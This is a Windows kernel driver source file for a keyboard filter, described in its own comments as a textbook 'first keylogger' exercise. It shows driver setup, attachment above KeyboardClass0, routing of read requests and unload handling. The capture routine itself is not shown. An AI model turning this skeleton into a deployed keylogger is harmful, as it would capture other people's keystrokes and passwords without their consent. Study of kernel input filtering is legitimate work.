//
// kbdhook: legacy keyboard filter that attaches on top of KeyboardClass0 and
// prints scan codes. Classic "first keylogger" exercise from the books.
//
#include "kbdhook.h"

DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD KbUnload;

static PDEVICE_OBJECT g_Filter = NULL;

VOID
KbUnload(PDRIVER_OBJECT DriverObject)
{
    PKBD_EXT ext;
    LARGE_INTEGER delay;

    UNREFERENCED_PARAMETER(DriverObject);

    if (g_Filter == NULL) {
        return;
    }
    ext = (PKBD_EXT)g_Filter->DeviceExtension;

    IoDetachDevice(ext->Lower);

    // one read is always parked in the class driver; wait for a key press
    delay.QuadPart = -10 * 1000 * 100;   // 100 ms
    while (ext->PendingReads > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &delay);
    }

    KLOG("unloading after %lu keys", ext->KeysSeen);
    IoDeleteDevice(g_Filter);
    g_Filter = NULL;
}

NTSTATUS
DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    UNICODE_STRING target = RTL_CONSTANT_STRING(KBD_TARGET);
    PKBD_EXT ext;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KbPassThrough;
    }
    DriverObject->MajorFunction[IRP_MJ_READ] = KbRead;
    DriverObject->MajorFunction[IRP_MJ_POWER] = KbPower;
    DriverObject->DriverUnload = KbUnload;

    RETURN_ON_FAILURE(IoCreateDevice(DriverObject, sizeof(KBD_EXT), NULL,
                                     FILE_DEVICE_KEYBOARD, 0, FALSE, &g_Filter));

    ext = (PKBD_EXT)g_Filter->DeviceExtension;
    RtlZeroMemory(ext, sizeof(*ext));
    ext->Self = g_Filter;

    RETURN_ON_FAILURE(IoAttachDevice(g_Filter, &target, &ext->Lower));

    g_Filter->Flags |= ext->Lower->Flags & (DO_BUFFERED_IO | DO_DIRECT_IO | DO_POWER_PAGABLE);
    g_Filter->DeviceType = ext->Lower->DeviceType;
    g_Filter->Characteristics = ext->Lower->Characteristics;
    g_Filter->Flags &= ~DO_DEVICE_INITIALIZING;

    KLOG("attached above %p", ext->Lower);
    return STATUS_SUCCESS;
}
